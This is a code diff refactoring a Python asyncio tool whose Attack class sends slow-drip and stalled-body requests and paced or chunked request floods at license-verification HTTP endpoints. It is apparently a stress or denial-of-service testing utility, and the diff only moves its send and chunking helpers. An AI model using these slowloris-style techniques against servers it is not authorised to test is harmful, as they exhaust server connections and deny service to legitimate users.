@@ -37,6 +37,18 @@ IP_BIND_ADDRESS_NO_PORT = 24
 BATCH, SINGLE = "/licenseVerificationBatch", "/dapi/licenseVerification"
 
 
+async def send(writer, parts):
+    with contextlib.suppress(ConnectionError):  # The answer may be there all the same.
+        for part in parts:
+            writer.write(part)
+            await writer.drain()
+
+
+def pieces(body):
+    """As a network would bring them: one long write keeps a processor in the kernel, whatever the priorities."""
+    return [body[place:place + PIECE] for place in range(0, len(body), PIECE)]
+
+
 class Attack:
     def __init__(self, kind, port, connections, rate, token, body, source):
         self.kind, self.port, self.rate, self.token, self.source = kind, int(port), float(rate), token, source
@@ -125,18 +137,12 @@ class Attack:
         code = re.search(rb'"respCode":(-?\d+)', answer)
         self.got[f"HTTP {answer.split()[1].decode()}" + (f" ({code[1].decode()})" if code else "")] += 1
 
-    async def send(self, writer, parts):
-        with contextlib.suppress(ConnectionError):  # The answer may be there all the same.
-            for part in parts:
-                writer.write(part)
-                await writer.drain()
-
     async def trickle(self, number, reader, writer, opening):
         """A byte a second until the server has enough of it."""
         self.is_up(number)
         answer = asyncio.create_task(self.answer(reader))
         try:
-            await self.send(writer, opening)
+            await send(writer, opening)
             while not (await asyncio.wait([answer], timeout=DRIP))[0]:
                 writer.write(b"a")
             await answer
@@ -152,9 +158,9 @@ class Attack:
         await self.trickle(number, reader, writer, [head])
 
     async def stalled_bodies(self, number, reader, writer):
-        """All but the last bytes at once, then a byte a second."""
+        """All but the last bytes as fast as they are taken, then a byte a second."""
         head = self.head(token=self.token, length=f"Content-Length: {len(self.body)}")
-        await self.trickle(number, reader, writer, [head, *self.pieces(self.body[:-100])])
+        await self.trickle(number, reader, writer, [head, *pieces(self.body[:-100])])
 
     async def paced(self, number, reader, writer, request):
         """Requests at this connection's part of the rate."""
@@ -166,7 +172,7 @@ class Attack:
             # Whoever is late does not hurry: the rate is what is asked at most.
             due = max(due + every, loop.time())
             answer = asyncio.create_task(self.answer(reader))
-            await self.send(writer, request())
+            await send(writer, request())
             await answer
             self.is_up(number)
 
@@ -175,16 +181,12 @@ class Attack:
 
     async def bodies(self, number, reader, writer):
         head = self.head(token=self.token, length=f"Content-Length: {len(self.body)}")
-        await self.paced(number, reader, writer, lambda: [head, *self.pieces(self.body)])
-
-    def pieces(self, body):
-        """As a network would bring them: one long write keeps a processor in the kernel, whatever the priorities."""
-        return [body[place:place + PIECE] for place in range(0, len(body), PIECE)]
+        await self.paced(number, reader, writer, lambda: [head, *pieces(self.body)])
 
     async def chunked(self, number, reader, writer):
         """The same without telling the length beforehand."""
         head = self.head(token=self.token, length="Transfer-Encoding: chunked")
-        chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in self.pieces(self.body)]
+        chunks = [b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces(self.body)]
         await self.paced(number, reader, writer, lambda: [head, *chunks, b"0\r\n\r\n"])
 
 
